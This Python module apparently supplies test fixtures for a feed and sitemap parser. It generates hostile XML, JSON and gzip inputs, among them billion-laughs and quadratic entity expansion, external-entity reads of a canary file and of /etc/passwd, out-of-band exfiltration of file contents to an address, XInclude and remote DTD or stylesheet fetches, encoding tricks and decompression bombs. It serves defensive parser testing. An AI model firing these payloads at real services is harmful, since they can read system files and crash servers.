"""Hostile feeds and sitemaps by name, made to point at a file and an address that must never be touched."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from dataclasses import dataclass

RSS = (
    "<rss version='2.0'><channel><title>t</title>"
    "<item><title>{0}</title><link>http://news.example/{0}</link></item></channel></rss>"
)
ATOM = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title>"
    "<entry><title>{0}</title><link href='http://news.example/{0}'/></entry></feed>"
)
RDF = (
    "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>"
    "<item rdf:about='http://news.example/1'><title>{0}</title><link>http://news.example/{0}</link></item></rdf:RDF>"
)
MAP = (
    "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>http://news.example/{0}</loc></url></urlset>"
)
INDEX = "<sitemapindex><sitemap><loc>http://news.example/{0}</loc></sitemap></sitemapindex>"
FORMS = {
    "rss": ("feed", RSS),
    "atom": ("feed", ATOM),
    "rdf": ("feed", RDF),
    "map": ("sitemap", MAP),
    "index": ("sitemap", INDEX),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    name: str
    kind: str
    body: bytes


def attacks(file: str, address: str, mib: int) -> Iterator[Attack]:
    """Over a hundred attacks, made one at a time; `file` is the path of a canary, `address` the address of another.

    mib: 1 << 20 for bodies as large as any may be, less for quicker tests.
    """
    for form, (kind, document) in FORMS.items():
        for name, body in (*_types(document, file, address), *_references(document, file, address)):
            yield Attack(name=f"{form} {name}", kind=kind, body=body.encode())
    for made in (_sizes(mib), _encodings(file, mib), _packed(mib)):
        for name, content in made:
            yield Attack(name=f"feed {name}", kind="feed", body=content)
            yield Attack(name=f"sitemap {name}", kind="sitemap", body=content)
            yield Attack(name=f"listing {name}", kind="listing", body=content)


def _types(document: str, file: str, address: str) -> Iterator[tuple[str, str]]:
    """Document types with entities."""
    use = document.format("&x;")
    laughs = "".join(f"<!ENTITY x{n} '{f'&x{n - 1};' * 10}'>" for n in range(1, 10))
    yield "billion laughs", f"<!DOCTYPE r [<!ENTITY x0 'ha'>{laughs}]>" + document.format("&x9;")
    yield "quadratic blow-up", f"<!DOCTYPE r [<!ENTITY x '{'a' * 100_000}'>]>" + document.format("&x;" * 20_000)
    yield "external entity", f"<!DOCTYPE r [<!ENTITY x SYSTEM 'file://{file}'>]>{use}"
    yield "external entity by http", f"<!DOCTYPE r [<!ENTITY x SYSTEM '{address}'>]>{use}"
    yield "public entity", f"<!DOCTYPE r [<!ENTITY x PUBLIC 'a' '{address}'>]>{use}"
    yield "parameter entity", f"<!DOCTYPE r [<!ENTITY % p SYSTEM '{address}'> %p;]>{use}"
    out = f"<!ENTITY % f SYSTEM 'file://{file}'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{address}?%f;'>\">%e;%s;"
    yield "out of band", f"<!DOCTYPE r [{out}]>{use}"
    yield "endless entity", f"<!DOCTYPE r [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>{use}"
    yield "lower case doctype", f"<!doctype r [<!ENTITY x SYSTEM 'file://{file}'>]>{use}"
    yield "late doctype", f"<!--{' ' * 200_000}--><!DOCTYPE r [<!ENTITY x SYSTEM 'file://{file}'>]>{use}"


def _references(document: str, file: str, address: str) -> Iterator[tuple[str, str]]:
    """Other ways to name what should be fetched."""
    plain = document.format("1")
    inner = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{file}' parse='text'/>"
    yield "xinclude", document.format(inner)
    yield "external dtd", f"<!DOCTYPE r SYSTEM '{address}'>{plain}"
    yield "stylesheet", f"<?xml-stylesheet type='text/xsl' href='{address}'?>{plain}"
    schema = f" xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:schemaLocation='x {address}'>"
    yield "schema", plain.replace(">", schema, 1)
    yield "base", plain.replace(">", f" xml:base='{address}'>", 1)


def _sizes(mib: int) -> Iterator[tuple[str, bytes]]:
    """Much of one thing, each about as large as a page may be."""
    head = b"<rss version='2.0'><channel><urlset><item><url>"
    yield "deep", head + b"<a>" * (2 * mib)
    yield "deep and closed", head + b"<a>" * mib + b"</a>" * mib
    yield "deep items", head + b"<item>" * mib
    yield "deep titles", head + b"<title>" * mib
    yield "deep locs", head + b"<loc>" * mib
    yield "huge attribute", head + b"<item a='" + b"x" * (9 * mib) + b"'/>"
    yield "many attributes", head + b"<item " + b" ".join(b"a%d='x'" % n for n in range(mib // 2)) + b"/>"
    yield "same attribute", head + b"<item " + b"a='x' " * mib + b"/>"
    yield "huge name", head + b"<" + b"x" * (9 * mib) + b"/>"
    yield "huge prefix", head + b"<" + b"x" * (4 * mib) + b":a/>"
    yield "namespaces", head + b"<item " + b" ".join(b"xmlns:a%d='u:%d'" % (n, n) for n in range(mib // 4)) + b"/>"
    yield "gigantic text", head + b"<title>" + b"x" * (9 * mib) + b"</title>"
    yield "gigantic address", head + b"<loc>http://news.example/" + b"x" * (9 * mib) + b"</loc>"
    yield "gigantic link", head + b"<link>http://news.example/" + b"x" * (9 * mib) + b"</link>"
    yield "brackets", head + b"<" * (9 * mib)
    yield "ampersands", head + b"<title>" + b"&" * (9 * mib) + b"</title>"
    yield "references", head + b"<title>" + b"&a;" * (3 * mib) + b"</title>"
    yield "numbers", head + b"<title>" + b"&#9999999999;" * (mib // 2) + b"</title>"
    yield "instructions", head + b"<?a b?>" * mib
    yield "open instructions", head + b"<?a " * (2 * mib)
    yield "comments", head + b"<!--" * (2 * mib)
    yield "cdata", head + b"<![CDATA[" * mib
    yield "closed cdata", head + b"<title>" + b"<![CDATA[x]]>" * (mib // 2)
    yield "doctypes", b"<!DOCTYPE " * mib
    yield "closings", head + b"</a>" * (2 * mib)
    yield "items", head + b"<item><link>http://news.example/1</link></item>" * (mib // 7)
    yield "entries", head + b"<url><loc>http://news.example/1</loc></url>" * (mib // 7)
    yield "alternates", b"<html>" + b"<link rel=alternate type=application/rss+xml " * (mib // 5)
    yield "json", b'{"items":' + b"[" * (5 * mib)
    yield "json objects", b'{"items":[' + b'{"a":' * mib
    yield "json number", b'{"items":[' + b"9" * (5 * mib) + b"]}"


def _encodings(file: str, mib: int) -> Iterator[tuple[str, bytes]]:
    """Bytes that say one thing to a filter and another to a parser."""
    bomb = f"<!DOCTYPE r [<!ENTITY x SYSTEM 'file://{file}'>]>" + RSS.format("&x;")
    yield "utf-7", b"<?xml version='1.0' encoding='utf-7'?>" + bomb.encode("utf-7")
    yield "utf-16", bomb.encode("utf-16")
    yield "utf-16 unmarked", bomb.encode("utf-16-be")
    yield "utf-16 mislabelled", ("<?xml version='1.0' encoding='utf-8'?>" + bomb).encode("utf-16")
    yield "utf-32", bomb.encode("utf-32")
    yield "ebcdic", ("<?xml version='1.0' encoding='cp037'?>" + bomb).encode("cp037")
    yield "codec", f"<?xml version='1.0' encoding='zlib_codec'?>{bomb}".encode()
    yield "codec by hex", f"<?xml version='1.0' encoding='hex'?>{bomb}".encode()
    yield "idna", f"<?xml version='1.0' encoding='idna'?>{bomb}".encode()
    yield "unknown", f"<?xml version='1.0' encoding='{'x' * 200}'?>{bomb}".encode()
    yield "shifted", f"<?xml version='1.0' encoding='iso-2022-jp'?>{bomb}".encode()
    yield "overlong", bomb.encode().replace(b"<", b"\xc0\xbc")
    yield "noise", bytes((n * n * 31 + n) % 251 for n in range(2 * mib))
    yield "zeros", b"\0" * (9 * mib)


def _packed(mib: int) -> Iterator[tuple[str, bytes]]:
    zeros = gzip.compress(b"\0" * (64 * mib))
    yield "gzip bomb", zeros
    yield "gzip in gzip", gzip.compress(zeros)
    yield (
        "gzip of entities",
        gzip.compress(b"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + MAP.format("&x;").encode()),
    )
    yield "gzip of depth", gzip.compress(b"<urlset>" + b"<url>" * (2 * mib))
    yield "half a gzip", zeros[: len(zeros) // 2]
    yield "gzip head", b"\x1f\x8b\x08" + b"\xff" * 100_000
